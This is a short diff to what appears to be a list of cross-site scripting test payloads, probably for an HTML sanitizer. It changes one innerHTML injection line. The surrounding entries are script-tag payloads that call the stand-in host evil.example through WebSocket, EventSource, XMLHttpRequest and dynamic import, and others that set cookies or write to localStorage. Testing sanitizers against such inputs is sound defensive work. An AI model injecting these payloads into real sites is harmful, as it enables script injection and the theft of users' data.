@@ -35,7 +35,7 @@ SCRIPTS = (
     "<script>new WebSocket('wss://evil.example/s28')</script>",
     "<script>new EventSource('https://evil.example/s29')</script>",
     "<script>import('https://evil.example/s30.js')</script>",
-    "<script>document.body.innerHTML='<img src=x onerror=alert(31)>'</script>",
+    "<script>document.documentElement.innerHTML='<img src=x onerror=alert(31)>'</script>",
     "<script>x=new XMLHttpRequest;x.open('GET','https://evil.example/s32');x.send()</script>",
     "<script>document.cookie='kith=33'</script>",
     "<script>localStorage.theme='34';alert(34)</script>",
